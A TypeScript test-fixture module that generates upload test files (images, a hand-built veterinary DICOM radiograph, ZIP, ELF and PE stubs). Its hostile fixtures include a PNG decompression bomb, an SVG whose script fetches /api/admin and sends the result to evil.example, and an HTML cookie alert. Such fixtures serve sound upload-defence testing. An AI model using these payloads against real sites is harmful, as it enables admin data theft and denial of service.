/**
 * Upload fixtures, generated (no committed binaries): images through sharp,
 * a DICOM Part 10 file written byte by byte, and the hostile files of
 * issue 9 item 2. Used by tests/integration/uploads.test.ts and e2e/uploads.spec.ts.
 */
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'

export async function png(width = 64, height = 48): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 120, g: 120, b: 120 } } }).png().toBuffer()
}

/** A noisy JPEG (noise does not compress, so cutting it in half really truncates the scan). */
export async function jpeg(width = 256, height = 256): Promise<Buffer> {
  const raw = Buffer.alloc(width * height * 3)
  let x = 12345
  for (let i = 0; i < raw.length; i++) {
    x = (x * 1103515245 + 12345) & 0x7fffffff
    raw[i] = x & 0xff
  }
  return sharp(raw, { raw: { width, height, channels: 3 } }).jpeg({ quality: 90 }).toBuffer()
}

export async function webp(width = 40, height = 30): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 10, g: 200, b: 30 } } }).webp().toBuffer()
}

function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4)
  len.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data])
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(body))
  return Buffer.concat([len, body, crc])
}

/** A valid-looking PNG of a few hundred bytes that declares width × height (a decompression bomb). */
export function pngBomb(width = 30000, height = 30000): Buffer {
  const ihdr = Buffer.alloc(13)
  ihdr.writeUInt32BE(width, 0)
  ihdr.writeUInt32BE(height, 4)
  ihdr[8] = 8 // bit depth
  ihdr[9] = 0 // greyscale
  const idat = deflateSync(Buffer.alloc(width + 1), { level: 9 }) // one row of zeros; the rest would inflate from nothing
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', idat), chunk('IEND', Buffer.alloc(0))])
}

// ───────────── DICOM (explicit VR little endian) ─────────────

function element(group: number, el: number, vr: string, value: Buffer): Buffer {
  const padded = value.length % 2 ? Buffer.concat([value, Buffer.from([vr === 'UI' || vr === 'OB' ? 0 : 0x20])]) : value
  const long = ['OB', 'OW', 'SQ', 'UN', 'UT'].includes(vr)
  const head = Buffer.alloc(long ? 12 : 8)
  head.writeUInt16LE(group, 0)
  head.writeUInt16LE(el, 2)
  head.write(vr, 4, 'ascii')
  if (long) head.writeUInt32LE(padded.length, 8)
  else head.writeUInt16LE(padded.length, 6)
  return Buffer.concat([head, padded])
}
const str = (s: string) => Buffer.from(s, 'ascii')
const us = (n: number) => {
  const b = Buffer.alloc(2)
  b.writeUInt16LE(n)
  return b
}

export type DicomOptions = { rows?: number; columns?: number; transferSyntax?: string; truncatePixels?: boolean; patientName?: string }

/** A DX radiograph with a 16-bit monochrome gradient (and a bright "fragment" square) as pixel data. */
export function dicom({ rows = 64, columns = 64, transferSyntax = '1.2.840.10008.1.2.1', truncatePixels = false, patientName = 'REX^K9-114' }: DicomOptions = {}): Buffer {
  const meta = Buffer.concat([
    element(0x0002, 0x0001, 'OB', Buffer.from([0, 1])),
    element(0x0002, 0x0002, 'UI', str('1.2.840.10008.5.1.4.1.1.1.1')),
    element(0x0002, 0x0003, 'UI', str('1.2.826.0.1.3680043.2.1125.1')),
    element(0x0002, 0x0010, 'UI', str(transferSyntax)),
  ])
  const groupLength = Buffer.alloc(4)
  groupLength.writeUInt32LE(meta.length)
  const pixels = Buffer.alloc(rows * columns * 2)
  for (let y = 0; y < rows; y++) {
    for (let x = 0; x < columns; x++) {
      const inFragment = Math.abs(x - columns / 2) < columns / 10 && Math.abs(y - rows / 2) < rows / 10
      pixels.writeUInt16LE(inFragment ? 4000 : Math.round((x / columns) * 2000), (y * columns + x) * 2)
    }
  }
  const data = Buffer.concat([
    element(0x0008, 0x0020, 'DA', str('20260112')),
    element(0x0008, 0x0060, 'CS', str('DX')),
    element(0x0008, 0x0080, 'LO', str('Northside Veterinary Emergency')),
    element(0x0008, 0x1030, 'LO', str('Thorax lateral')),
    element(0x0010, 0x0010, 'PN', str(patientName)),
    element(0x0010, 0x0020, 'LO', str('K9-114')),
    element(0x0018, 0x0015, 'CS', str('THORAX')),
    element(0x0018, 0x5101, 'CS', str('LL')),
    element(0x0028, 0x0002, 'US', us(1)),
    element(0x0028, 0x0004, 'CS', str('MONOCHROME2')),
    element(0x0028, 0x0010, 'US', us(rows)),
    element(0x0028, 0x0011, 'US', us(columns)),
    element(0x0028, 0x0100, 'US', us(16)),
    element(0x0028, 0x0101, 'US', us(12)),
    element(0x0028, 0x0102, 'US', us(11)),
    element(0x0028, 0x0103, 'US', us(0)),
    element(0x7fe0, 0x0010, 'OW', pixels),
  ])
  const file = Buffer.concat([Buffer.alloc(128), str('DICM'), element(0x0002, 0x0000, 'UL', groupLength), meta, data])
  return truncatePixels ? file.subarray(0, file.length - pixels.length / 2) : file
}

// ───────────── hostile files ─────────────

export const svgWithScript = () =>
  Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("/api/admin").then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script></svg>\n')
export const html = () => Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>')

/** A real one-file ZIP archive (stored, no compression). */
export function zip(): Buffer {
  const name = Buffer.from('notes.txt')
  const content = Buffer.from('hello')
  const crc = crc32(content)
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt16LE(20, 4)
  local.writeUInt32LE(crc, 14)
  local.writeUInt32LE(content.length, 18)
  local.writeUInt32LE(content.length, 22)
  local.writeUInt16LE(name.length, 26)
  const central = Buffer.alloc(46)
  central.writeUInt32LE(0x02014b50, 0)
  central.writeUInt16LE(20, 4)
  central.writeUInt16LE(20, 6)
  central.writeUInt32LE(crc, 16)
  central.writeUInt32LE(content.length, 20)
  central.writeUInt32LE(content.length, 24)
  central.writeUInt16LE(name.length, 28)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(46 + name.length, 12)
  end.writeUInt32LE(30 + name.length + content.length, 16)
  return Buffer.concat([local, name, content, central, name, end])
}

/** The first bytes of a 64-bit Linux executable. */
export function elf(): Buffer {
  const b = Buffer.alloc(128)
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(b)
  b.writeUInt16LE(2, 16) // ET_EXEC
  b.writeUInt16LE(0x3e, 18) // x86-64
  return b
}

/** A DOS/PE header: "MZ", the PE offset at 0x3c, "PE\0\0". */
export function peExe(): Buffer {
  const b = Buffer.alloc(256)
  b.write('MZ', 0, 'ascii')
  b.writeUInt32LE(0x80, 0x3c)
  b.write('PE\0\0', 0x80, 'binary')
  b.writeUInt16LE(0x8664, 0x84)
  return b
}

export const pdf = () => Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n')

/** A ReadableStream over the bytes in chunks of `size`. */
export function streamOf(bytes: Uint8Array, size = 64 * 1024): ReadableStream<Uint8Array> {
  let offset = 0
  return new ReadableStream<Uint8Array>({
    pull(controller) {
      if (offset >= bytes.length) return controller.close()
      controller.enqueue(bytes.slice(offset, offset + size))
      offset += size
    },
  })
}
